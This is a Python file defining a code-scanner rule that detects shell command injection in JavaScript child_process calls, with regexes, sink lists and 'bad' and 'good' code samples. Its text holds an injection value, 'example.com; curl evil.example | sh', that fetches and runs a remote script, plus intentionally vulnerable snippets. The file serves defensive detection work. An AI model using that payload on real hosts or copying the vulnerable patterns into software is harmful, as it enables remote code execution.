"""A shell command that is built from a string."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from vetline_analyzers.core.finding import Confidence, Severity
from vetline_analyzers.flow.rule import PEOPLE, Arrival, FlowRule, Opinion, Sink
from vetline_analyzers.syntax.around_javascript import LANGUAGES

if TYPE_CHECKING:
    from vetline_analyzers.flow.rule import Called

_SHELL = re.compile(r"(?:/\w+)*/?(?:ba|z|da|k)?sh|(?:.*[/\\])?(?:cmd|powershell|pwsh)(?:\.exe)?")
_OPTION = re.compile(r"-l?c|/c|-Command", re.IGNORECASE)
_REMOTE = re.compile(r"(?i)ssh|conn|docker|container|remote|sandbox")
_MODULES = ("child_process", "node:child_process", "promisify-child-process", "mz/child_process")
_ALWAYS = (
    *(f"{module}.{name}" for module in _MODULES for name in ("exec", "execSync")),
    *("shelljs.exec", "shell.exec", "execa.command", "execa.commandSync", "execa.execaCommand"),
    *(
        "execa.execaCommandSync",
        "execSync",
        "execAsync",
        "execPromise",
        "child-process-promise.exec",
    ),
    *("node-cmd.get", "node-cmd.run", "node-cmd.runSync", "sudo-prompt.exec"),
)
_PROGRAMS = (
    *(
        f"{module}.{name}"
        for module in _MODULES
        for name in ("spawn", "spawnSync", "execFile", "execFileSync", "fork")
    ),
    *("execa", "execa.execa", "execa.execaSync", "cross-spawn", "cross-spawn.sync", "spawnSync"),
    *("cross-spawn.spawn", "execFileSync"),
)


def _has_shell(called: Called) -> bool:
    shell = called.keywords.get("shell")
    return shell is not None and shell.truth is not False and shell.constants != (None,)


def _has_no_shell(called: Called) -> bool:
    return not _has_shell(called)


def _starts_shell(called: Called) -> bool:
    """Whether a list says `-c text` to a shell."""
    program, given = called.argument(0), called.argument(1)
    if (
        program is None
        or given is None
        or not given.is_list
        or not _SHELL.fullmatch(program.text or "")
    ):
        return False
    items = list((given.items or {}).values())
    return len(items) > 1 and bool(_OPTION.fullmatch(items[0].text or ""))


def _is_remote(called: Called) -> bool:
    return any(_REMOTE.search(name) for name in called.receiver.names)


def _judge(arrival: Arrival) -> bool | Opinion | None:
    sink, value = arrival.sink, arrival.value
    if sink.when is _has_no_shell:
        return _program(arrival)
    if sink.when is _starts_shell:
        items = list((value.items or {}).values())[1:]
        parts = [Arrival(item, sink, None, (), (), arrival.alive) for item in items[:1]]
        open_ = any(part.is_built or part.is_open(part.value) for part in parts)
        return open_ if arrival.traced else any(part.is_built for part in parts)
    if arrival.traced or arrival.is_built:
        return True
    if sink.methods or not arrival.is_open(value):
        return None
    return Opinion(
        "A shell runs a command that is not written here: use execFile or spawn with a list.",
        confidence=Confidence.LOW,
    )


def _program(arrival: Arrival) -> Opinion | None:
    """A program that a stranger names, without a shell."""
    if not arrival.traced or arrival.value.items is not None:
        return None
    first = arrival.pieces[0]
    if isinstance(first, str) or not any(t in arrival.traced for t in first.every()):
        return None
    return Opinion(
        f"{arrival.traced[0].label} names the program that is started here: look it up in a list."
    )


RULE = FlowRule(
    id="javascript/command-from-string",
    title="Shell command built from a string",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(78, 77, 88),
    page="""
`exec` hands its text to a shell, which reads `;`, `|` and `$(…)` in the values as its own: a host called
`x; curl evil.example | sh` runs a program of the attacker. So do `spawn` with `shell: true` and `sh -c`.

Where a text with a value in it is run and nothing shows whose the value is, the finding is tentative.
""",
    attack="Names the host `example.com; curl evil.example | sh`, and the shell runs a program of the "
    "attacker's.",
    advice='Use `execFile("ping", ["-c", "1", host])`, which starts no shell.',
    bad=(
        """\
const cp = require("child_process");

function ping(host) {
  cp.exec(`ping -c 1 ${host}`);
}
""",
        """\
import { execSync as run } from "node:child_process";

export function ping(host) {
  return run("ping -c 1 " + host).toString();
}
""",
        """\
const { exec } = require("child_process");
const util = require("util");
const execAsync = util.promisify(exec);

async function ping(host) {
  await execAsync(`ping ${host}`);
}
""",
        'require("child_process").spawn(`ls ${dir}`, { shell: true });\n',
        """\
const { spawn } = require("child_process");

app.get("/ping", (req, res) => {
  const child = spawn("sh", ["-c", `ping ${req.query.host}`]);
  child.stdout.pipe(res);
});
""",
        """\
import { spawn } from "child_process";

app.post("/run", ({ body }, res) => {
  spawn(body.program, ["--version"]);
});
""",
    ),
    good=(
        """\
const cp = require("child_process");

function ping(host) {
  cp.execFile("ping", ["-c", "1", host]);
}
""",
        """\
import { exec } from "child_process";

exec("git status");
""",
        """\
function find(text, word) {
  return /x/.exec(`${text} ${word}`);
}
""",
        """\
import { spawn } from "child_process";

spawn(`${dir}/bin/x`, ["-v"]);
""",
        """\
const { exec } = require("child_process");

const COMMANDS = ["status", "uptime"];

app.get("/run", (req, res) => {
  const command = req.query.command;
  if (!COMMANDS.includes(command)) return res.sendStatus(400);
  exec(`service ${command}`);
});
""",
    ),
    url="https://nodejs.org/api/child_process.html",
    language="javascript",
    languages=LANGUAGES,
    kind="command",
    sinks=(
        Sink(names=_ALWAYS),
        Sink(names=_PROGRAMS, when=_has_shell),
        Sink(names=_PROGRAMS, when=_has_no_shell),
        Sink(names=_PROGRAMS, arguments=(1,), when=_starts_shell),
        Sink(methods=("exec", "execCommand"), when=_is_remote),
    ),
    traced="{label} reaches a shell here: what it holds can be a command. Use execFile with a list of arguments.",
    possible="A shell command is built from a string: a value in it becomes a command. "
    "Use execFile or spawn with a list of arguments.",
    sources=PEOPLE,
    judge=_judge,
)
